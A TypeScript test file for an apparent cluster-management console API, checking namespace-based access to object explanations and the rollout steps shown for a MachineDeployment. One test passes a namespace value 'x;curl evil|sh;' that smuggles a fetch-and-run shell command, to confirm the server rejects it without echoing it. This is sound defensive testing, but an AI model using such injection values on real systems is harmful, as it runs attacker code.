import { describe, expect, it } from "vitest";
import { machinedeploymentSets } from "../../../../functions/machinedeployment/sets.ts";
import { objectSchema } from "../../../../infra/console/api/object.ts";
import { createExplain } from "../../../../infra/console/sources/explain-source.ts";
import { createMemoryStore } from "../../../../infra/queue/backends/embedded/store.ts";
import { groupOf, MANAGEMENT } from "../../../../shared/api/kinds.ts";
import { defineFunction } from "../../../../shared/function/define-function.ts";
import { done } from "../../../../shared/function/result.ts";
import { virtualClock } from "../../../support/clock.ts";
import { serveTestConsole } from "../../../support/console.ts";
import { allowingIn } from "../../../support/console-queue.ts";
import { rollingFacts } from "../../../support/rolling-deployment.ts";
import { WIDGETS, Widget, widget } from "../../../support/widget.ts";

const GROW = defineFunction(
  { name: "widget-grow", summary: "Grows.", source: "own", reconciles: Widget, watches: [], owns: [] },
  async () => ({ result: done }),
);

describe("objects in the console", () => {
  it("are explained to those who see their namespace, and to no one else", async () => {
    const clock = virtualClock();
    await using store = createMemoryStore();
    await store.put(WIDGETS, widget());
    await store.advance(WIDGETS, { ready: true, resourceVersion: "7" });
    const functions = [GROW];
    const heads = async () => [];
    const explain = createExplain({ store, functions, history: async () => ({}), heads, clock });
    const serve = (...namespaces: readonly string[]) =>
      serveTestConsole({
        clock,
        functions,
        ports: { explain },
        reviewer: allowingIn(...namespaces),
        namespaces: async () => ["default", "other"],
      });
    await using world = await serve("default");
    const headers = await world.logIn();
    const ask = (path: string) => world.ask(`/api/v1/objects/${path}`, { headers });
    const shown = objectSchema.parse((await ask("widget/default/w")).body);
    expect(shown).toMatchObject({
      kind: "Widget",
      tree: { object: "Widget default/w", functions: [{ function: "widget-grow" }] },
    });
    expect(await ask("widget/default/gone")).toMatchObject({ status: 404 });
    expect(JSON.stringify(await ask("widget/default/gone"))).toContain("--namespace default");
    await using seesAll = await serve("all");
    const link = `/api/v1/objects/widget/${encodeURIComponent("x;curl evil|sh;")}/w`;
    const refused = await seesAll.ask(link, { headers: await seesAll.logIn() });
    expect(refused).toMatchObject({
      status: 404,
      body: { next: expect.stringContaining("--all-namespaces") },
    });
    expect(JSON.stringify(refused)).not.toContain("curl");
    expect(await ask("nothing/default/w")).toMatchObject({ status: 404 });
    expect(await ask("widget/other/w")).toMatchObject({ status: 403 });
    await using foreign = await serve("other");
    const answer = await foreign.ask("/api/v1/objects/widget/default/w", { headers: await foreign.logIn() });
    expect(answer).toMatchObject({ status: 403 });
  });

  it("show the steps of its rollout, of a MachineDeployment", async () => {
    const clock = virtualClock();
    await using store = createMemoryStore();
    const { deployment, sets, machines } = rollingFacts({});
    for (const object of [deployment, ...sets, ...machines]) {
      const type = { cluster: MANAGEMENT, group: groupOf(object.apiVersion), kind: object.kind };
      await store.put(type, object);
      await store.advance(type, { ready: true, resourceVersion: "30" });
    }
    const heads = async () => [];
    const functions = [machinedeploymentSets];
    const explain = createExplain({ store, functions, history: async () => ({}), heads, clock });
    const reviewer = allowingIn("default");
    const namespaces = async () => ["default"];
    await using world = await serveTestConsole({
      clock,
      functions,
      ports: { explain },
      reviewer,
      namespaces,
    });
    const headers = await world.logIn();
    const { body } = await world.ask("/api/v1/objects/machinedeployment/default/d1", { headers });
    const { limits, rows = [], summary = [] } = objectSchema.parse(body).rollout ?? {};
    expect(limits).toBe("3 Machines, surge 1, unavailable 0: at least 3 available, at most 4");
    expect(rows.map(([step]) => step)).toEqual(["now", "1", "2", "3", "4", "5", "6"]);
    expect(rows[2]?.[2]).toMatch(/^m1 goes, once 1 of d1-\w{5} is available$/);
    expect(summary[0]).toBe("3 Machines are made, 3 deleted; 3 steps wait for new Machines.");
  });
});
